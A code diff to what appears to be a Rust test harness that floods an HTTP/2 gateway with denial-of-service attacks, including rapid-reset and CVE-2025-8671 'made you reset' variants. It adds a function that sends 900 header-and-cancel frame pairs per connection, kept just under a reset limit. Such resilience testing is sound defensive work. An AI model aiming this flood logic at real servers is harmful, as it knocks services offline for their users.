@@ -34,6 +34,12 @@ pub(crate) const ATTACKS: &[Attack] = &[
         ..Attack::USUAL
     },
     Attack {
+        name: "rapid_resets_below",
+        does: "900 of them on each of ever new connections: fewer than the limit",
+        work: below,
+        ..Attack::USUAL
+    },
+    Attack {
         name: "made_you_reset",
         does: "requests, each with a WINDOW_UPDATE of zero that makes the gateway reset it (CVE-2025-8671)",
         work: |target| {
@@ -69,14 +75,12 @@ pub(crate) const ATTACKS: &[Attack] = &[
         name: "no_route",
         does: "requests for a host without a route at full rate: a client that always has something to read",
         work: |target| asked(target, "nobody.example", false),
-        defended: false,
         ..Attack::USUAL
     },
     Attack {
         name: "no_route_unread",
         does: "the same from a client that never reads the answers",
         work: |target| asked(target, "nobody.example", true),
-        defended: false,
         ..Attack::USUAL
     },
     Attack {
@@ -110,6 +114,28 @@ fn taken_back(target: Target, head: impl Fn() -> Head + 'static, then: fn(u32) -
             }))
         };
         target.flood(&[], requests).await;
+        target.tally()
+    })
+}
+
+fn below(target: Target) -> Work {
+    Box::pin(async move {
+        let head = Head::new("localhost", "/t.T/Mute", &[], 0);
+        let mut resets = BytesMut::new();
+        for number in 0..900 {
+            resets.put(head.frame(number, false));
+            resets.put(cancel(stream(number)));
+        }
+        while !target.is_over() {
+            let Some(mut connection) = target.client(&[]).await else {
+                continue;
+            };
+            target.sent(resets.len());
+            connection.write(&resets).await.ok();
+            connection.close_writing().await;
+            let ending = connection.ending(target.left()).await;
+            target.ended_by(ending.as_ref());
+        }
         target.tally()
     })
 }
